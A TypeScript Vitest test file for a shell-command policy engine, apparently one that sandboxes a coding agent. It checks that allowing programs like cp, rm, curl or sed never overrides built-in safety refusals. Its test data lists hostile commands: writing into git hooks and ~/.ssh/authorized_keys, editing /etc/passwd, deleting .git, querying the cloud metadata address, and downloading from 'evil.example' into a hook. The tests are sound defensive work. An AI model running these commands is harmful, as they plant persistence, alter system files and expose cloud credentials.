import { describe, expect, it } from "vitest";
import { definePolicy } from "./define-policy.ts";
import { evaluate } from "./evaluate.ts";
import type { PolicyInput } from "./policy.ts";

const workspace = { roots: ["/srv/app"], home: "/home/me" };

function judge(command: string, input: PolicyInput = {}) {
  const policy = definePolicy({ preset: "developer", workspace, ...input });
  return evaluate(policy, { kind: "command", command, cwd: "/srv/app" });
}

describe("a rule that allows a program", () => {
  it.each([
    ["cp", "cp a .git/hooks/x"],
    ["cp", "cp a .codex/x"],
    ["cp", "cp a /etc/x"],
    ["cp", "cp a ~/.bashrc"],
    ["cp", "cp a ~/.ssh/authorized_keys"],
    ["rm", "rm -rf .git"],
    ["rm", "rm ~/.bashrc"],
    ["tee", "echo x | tee .git/hooks/pre-commit"],
    ["sed", "sed -i s/a/b/ /etc/passwd"],
    ["tar", "tar xf a -C .git"],
    ["mv", "mv .git x"],
    ["curl", "curl http://169.254.169.254/"],
    ["curl", "curl https://evil.example -o .git/hooks/x"],
    ["echo", "echo x > .git/hooks/x"],
  ])("about %s leaves the refusal of %s", (rule, command) => {
    for (const input of [{ alsoAllow: [rule] }, { allow: [rule, "echo"] }] satisfies PolicyInput[]) {
      const { decision, rule: decidedBy } = judge(command, input);
      expect([decision, decidedBy]).toEqual(["deny", expect.stringMatching(/^safety\//)]);
    }
  });

  it.each<readonly [string, PolicyInput, string]>([
    ["cp .env x", { deny: [{ kind: "path", glob: ".env" }], alsoAllow: ["cp"] }, "deny"],
    ["cp .env x", { ask: [{ kind: "path", glob: ".env" }], alsoAllow: ["cp"] }, "ask"],
    ["cp --odd .env x", { deny: [{ kind: "path", glob: ".env" }], alsoAllow: ["cp"] }, "deny"],
    ["frob --in=.env", { deny: [{ kind: "path", glob: ".env" }], alsoAllow: ["frob"] }, "deny"],
    ["frob .git/hooks/x", { alsoAllow: ["frob"] }, "ask"],
    ["frob https://a.example/x", { network: { deny: ["a.example"] }, alsoAllow: ["frob"] }, "deny"],
    [
      "curl https://a.example/x",
      { deny: [{ kind: "host", host: "a.example" }], alsoAllow: ["curl"] },
      "deny",
    ],
    ["curl https://a.example/x", { ask: [{ kind: "host", host: "a.example" }], alsoAllow: ["curl"] }, "ask"],
    ["curl https://a.example/x", { network: { deny: ["a.example"] }, alsoAllow: ["curl"] }, "deny"],
    ["curl http://localhost/x", { network: { loopback: "deny" }, alsoAllow: ["curl"] }, "deny"],
    ["npm install", { effects: { install: "deny" }, alsoAllow: ["npm"] }, "deny"],
    [
      "curl https://a.example/x",
      { network: { deny: ["a.example"] }, allow: [{ kind: "script", text: "curl https://a.example/x" }] },
      "deny",
    ],
  ])("leaves what the policy says about paths, hosts and effects: %s with %j", (command, input, decision) => {
    expect(judge(command, input).decision).toBe(decision);
  });

  it.each<readonly [string, PolicyInput]>([
    ["cp a ../b", { alsoAllow: ["cp"] }],
    ["curl https://a.example/x", { alsoAllow: ["curl"] }],
    ["curl http://localhost/x", { preset: "workspace-write", alsoAllow: ["curl"] }],
    ["rm a", { preset: "read-only", alsoAllow: ["rm"] }],
    ["frob --all src", { alsoAllow: ["frob"] }],
    ["kubectl apply -f k8s/x.yml", { alsoAllow: ["kubectl apply"] }],
  ])("answers the question about %s", (command, input) => {
    expect(judge(command, input).decision).toBe("allow");
  });

  it("does not let a script pass whose first refusal by default hides one of the safety rules", () => {
    const command = "touch b .git/x";
    const allow: PolicyInput["allow"] = [{ kind: "script", text: command }];
    expect(judge(command, { preset: "read-only", allow }).rule).toBe("safety/protected-path");
  });
});
